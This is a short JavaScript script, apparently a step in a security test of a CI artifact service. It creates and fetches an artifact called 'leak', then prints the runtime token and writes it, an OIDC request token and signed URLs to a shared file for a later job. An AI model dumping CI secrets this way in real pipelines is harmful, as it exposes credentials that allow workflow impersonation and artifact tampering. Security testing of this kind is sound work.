// Hands everything that it got to the next job.
import {assert, backend_ids, fs, twirp} from './common.mjs'

const ids = backend_ids()
const upload = await twirp('CreateArtifact', {...ids, name: 'leak', version: 4})
assert.equal(upload.status, 200)
await fetch(upload.body.signed_upload_url, {method: 'PUT', headers: {'x-ms-blob-type': 'BlockBlob'}, body: 'x'})
const end = await twirp('FinalizeArtifact', {...ids, name: 'leak', size: '1'})
assert.equal(end.status, 200)
const download = await twirp('GetSignedArtifactURL', {...ids, name: 'leak'})
assert.equal((await fetch(download.body.signed_url)).status, 200)
console.log(process.env.ACTIONS_RUNTIME_TOKEN)
fs.writeFileSync(`${process.env.SHARED}/token.json`, JSON.stringify({
  ids, token: process.env.ACTIONS_RUNTIME_TOKEN, identity: process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN,
  upload: upload.body.signed_upload_url, download: download.body.signed_url
}))
